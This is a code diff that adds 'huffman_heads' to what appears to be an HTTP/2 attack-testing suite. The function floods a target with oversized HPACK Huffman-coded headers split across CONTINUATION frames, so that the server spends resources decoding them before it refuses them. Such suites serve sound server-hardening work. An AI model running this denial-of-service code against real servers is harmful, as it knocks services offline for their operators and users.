@@ -167,6 +167,21 @@ async def many_fields(target: Target) -> None:
     await flood(target, lambda: (head(number, fields) for number in _IDS))
 
 
+@attack()
+async def huffman_heads(target: Target) -> None:
+    """Send heads of 60 kB in Huffman code, which are decoded before they are refused."""
+    fields = _LIVE + hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple("x", "e" * 95_000)])
+    parts = [fields[start : start + 16_000] for start in range(0, len(fields), 16_000)]
+
+    def heads() -> Iterator[bytes]:
+        for number in _IDS:
+            yield head(number, parts[0], END_STREAM)
+            yield from (frame(CONTINUATION, 0, number, part) for part in parts[1:-1])
+            yield frame(CONTINUATION, END_HEADERS, number, parts[-1])
+
+    await flood(target, heads)
+
+
 @attack(tls=BOTH)
 async def requests(target: Target) -> None:
     """Send requests as fast as they are taken, on one connection."""
